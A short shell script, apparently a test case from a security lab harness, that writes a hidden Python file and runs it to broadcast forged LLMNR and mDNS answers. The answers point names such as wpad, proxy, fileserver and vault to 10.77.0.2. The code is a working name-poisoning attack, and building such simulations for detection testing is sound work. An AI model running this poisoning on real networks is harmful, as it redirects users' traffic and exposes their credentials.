#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.r.py <<'END'
import socket, struct
ip = socket.inet_aton("10.77.0.2"); sent = 0
for group, port in (("224.0.0.252", 5355), ("224.0.0.251", 5353)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", port))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + ip); s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, ip)
    for name in ("wpad", "fileserver", "proxy", "registry", "intranet", "vault"):
        for dom in ("", "local"):
            q = b"".join(bytes([len(x)]) + x.encode() for x in (name, dom) if x) + b"\0"
            s.sendto(struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + q + struct.pack(">HHIH", 1, 0x8001, 120, 4) + ip, (group, port)); sent += 1
assert sent == 24
END
python3 /tmp/.r.py
took_place
